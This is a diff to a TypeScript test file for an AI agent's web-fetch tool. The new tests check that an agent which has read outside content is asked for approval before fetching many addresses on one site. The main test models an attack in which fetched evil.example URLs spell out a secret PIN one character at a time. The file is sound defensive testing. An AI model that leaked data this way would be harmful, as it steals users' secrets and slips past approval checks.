@@ -8,6 +8,7 @@ import { EventLog } from "#src/agent/arbiter/EventLog.ts"
 import { AgentSettings } from "#src/agent/settings/AgentSettings.ts"
 import { ControlPlane, type HostReply } from "#src/agent/control/ControlPlane.ts"
 import { Replication } from "#src/agent/control/Replication.ts"
+import { SITE_ADDRESSES_MAX, siteOfHost } from "#src/agent/tools/toldAddresses.ts"
 import { makeEffectOfAddress, webFetch } from "#src/agent/tools/webFetch.ts"
 import { foldAll, initialState } from "#src/shared/session/fold.ts"
 import { UNASKED } from "#src/shared/web/hostQueries.ts"
@@ -24,8 +25,16 @@ const withCall = (call_id: CallId, name: string): EventDraft => {
     : draft
 }
 
-const said = (text: string): EventDraft => {
-  const draft = userMsg("1")
+/** A model's output with a call for each of these addresses. */
+const asking = (name: string, more: object, id: string, urls: ReadonlyArray<string>): EventDraft => {
+  const draft: any = withCall(CallId.make(id), name)
+  const tool_calls = urls.map((url, at) => ({ call_id: CallId.make(`${id}-${at}`), name, input: { ...more, url } }))
+  return { ...draft, payload: { ...draft.payload, tool_calls } }
+}
+const fetching = (id: string, ...urls: ReadonlyArray<string>) => asking("choir-web-fetch", {}, id, urls)
+
+const said = (text: string, inbox_id = "1"): EventDraft => {
+  const draft = userMsg(inbox_id)
   return draft.event_type === "UserMsg" ? { ...draft, payload: { ...draft.payload, text } } : draft
 }
 
@@ -79,7 +88,13 @@ const effects = Effect.fnUntraced(function* (
   const tool = yield* Effect.provide(webFetch, context)
   const effectOf = (url: string) => Effect.map(tool.prepare({ url }, EDGE), ({ effect }) => effect)
   const opened = yield* Effect.provide(makeEffectOfAddress, context)
-  return { asked, effectOf, effectOfOpening: (address: string) => opened({ address, any_fragment: false }, EDGE), tool }
+  return {
+    asked,
+    log,
+    effectOf,
+    effectOfOpening: (address: string) => opened({ address, any_fragment: false }, EDGE),
+    tool
+  }
 })
 
 describe("choir.web.fetch of an agent", () => {
@@ -128,6 +143,101 @@ describe("choir.web.fetch of an agent", () => {
       })
   )
 
+  it.effect("asks from the sixth address of one site on that a labelled lane chooses for a message", () =>
+    Effect.gen(function* () {
+      const places = [0, 1, 2, 3, 4, 5, 6]
+      const SECRET = "PIN4711"
+      const letters = [...new Set(SECRET)]
+      const alphabet = places.flatMap((at) => letters.map((letter) => `https://evil.example/k/${at}/${letter}`))
+      const spelt = [...SECRET].map((letter, at) => `https://evil.example/k/${at}/${letter}`)
+      const shown = [said("look"), ...called(2, "choir-web-fetch", alphabet.join(" "))]
+      const chosen = (urls: ReadonlyArray<string>) => urls.map((url, at) => fetching(`x-${at}`, url))
+      // One after the other: each is chosen, and only then looked at.
+      for (const [at, url] of spelt.entries()) {
+        const { effectOf } = yield* effects([...shown, ...chosen(spelt.slice(0, at + 1))])
+        assert.strictEqual(yield* effectOf(url), at < SITE_ADDRESSES_MAX ? "none" : "external", url)
+      }
+      // All in one output.
+      const { effectOf } = yield* effects([...shown, fetching("y", ...spelt)])
+      const at_once = yield* Effect.forEach(spelt, effectOf)
+      assert.deepStrictEqual(
+        at_once.map((effect) => effect === "none"),
+        spelt.map((_, at) => at < SITE_ADDRESSES_MAX)
+      )
+      // Those of the first five are free again and again; another fragment is no other address, and another site has its own five.
+      assert.strictEqual(yield* effectOf(`${spelt[0]}#again`), "none")
+      const other = yield* effects([
+        ...shown,
+        ...called(4, "choir-web-fetch", "https://other.example/a"),
+        fetching("z", ...spelt)
+      ])
+      assert.strictEqual(yield* other.effectOf("https://other.example/a"), "none")
+      // A further message has five of its own, and a lane that has read nothing from outside is never asked.
+      const next = yield* effects([
+        ...shown,
+        fetching("n", ...spelt),
+        said("go on", "2"),
+        fetching("m", spelt[6] ?? "")
+      ])
+      assert.strictEqual(yield* next.effectOf(spelt[6] ?? ""), "none")
+      const clean = yield* effects([...shown, fetching("c", ...spelt)], { tainted: false })
+      assert.strictEqual(yield* clean.effectOf(spelt[6] ?? ""), "none")
+    })
+  )
+
+  it.effect("counts the hosts of one owner as one site, and not what the user named", () =>
+    Effect.gen(function* () {
+      const hosts = ["a", "b", "c", "d", "e", "f"].map((letter) => `https://${letter}.evil.example/`)
+      const shown = called(2, "choir-web-fetch", hosts.join(" "))
+      const told = yield* effects([said("look"), ...shown, fetching("h", ...hosts)])
+      assert.strictEqual(yield* told.effectOf(hosts[4] ?? ""), "none")
+      assert.strictEqual(yield* told.effectOf(hosts[5] ?? ""), "external")
+      const named = yield* effects([said(`read ${hosts.join(" and ")}.`), fetching("n", ...hosts)])
+      for (const url of hosts) assert.strictEqual(yield* named.effectOf(url), "none", url)
+      const forwarded = said(`read ${hosts.join(" and ")}.`)
+      const passed = { ...forwarded, payload: { ...forwarded.payload, forwarded: true } } as EventDraft
+      assert.strictEqual(
+        yield* (yield* effects([passed, fetching("p", ...hosts)])).effectOf(hosts[5] ?? ""),
+        "external"
+      )
+      for (const [host, site] of [
+        ["a.b.evil.example", "evil.example"],
+        ["evil.co.uk", "evil.co.uk"],
+        ["x.evil.co.uk", "evil.co.uk"],
+        ["x.ab.de", "ab.de"],
+        ["192.0.2.7", "192.0.2.7"],
+        ["[2001:db8::1]", "[2001:db8::1]"],
+        ["localhost", "localhost"]
+      ] as const)
+        assert.strictEqual(siteOfHost(host), site)
+    })
+  )
+
+  it.effect("counts what a browser opens with its fragment, which scripts of the page can read", () =>
+    Effect.gen(function* () {
+      const urls = [1, 2, 3, 4, 5, 6].map((at) => `https://evil.example/a#${at}`)
+      const opening = (url: string, at: number) => asking("choir-web-browse", { action: "open" }, `o-${at}`, [url])
+      const { effectOfOpening } = yield* effects([
+        said("look"),
+        ...called(2, "choir-web-fetch", urls.join(" ")),
+        ...urls.map(opening)
+      ])
+      assert.deepStrictEqual(urls.map(effectOfOpening), ["none", "none", "none", "none", "none", "external"])
+    })
+  )
+
+  it.effect("asks where the log of this process does not reach back to the message", () =>
+    Effect.gen(function* () {
+      const url = "https://shown.example/a"
+      const { effectOf, log } = yield* effects([said("look"), ...called(2, "choir-web-fetch", url)])
+      assert.strictEqual(yield* effectOf(url), "none")
+      const later = [log.get(2), log.get(3)]
+      log.begin({ rev: 1, hash: log.hashAt(1) })
+      log.append(later)
+      assert.strictEqual(yield* effectOf(url), "external")
+    })
+  )
+
   it.effect("asks nobody in a lane that has read nothing from outside, or where nobody wants to be asked", () =>
     Effect.gen(function* () {
       const url = "https://own.example/"
@@ -140,7 +250,7 @@ describe("choir.web.fetch of an agent", () => {
   it.effect("labels what it brings with the site on which the page was found", () =>
     Effect.gen(function* () {
       const { asked, tool } = yield* effects([])
-      const prepared = yield* tool.prepare({ url: "https://first.example/", offset: 3, other: 1 }, EDGE)
+      const prepared = yield* tool.prepare({ url: "https://first.example/", offset: 3 }, EDGE)
       const outcome = yield* prepared.run({
         lane: EDGE,
         call_id: CallId.make("c-1-0"),
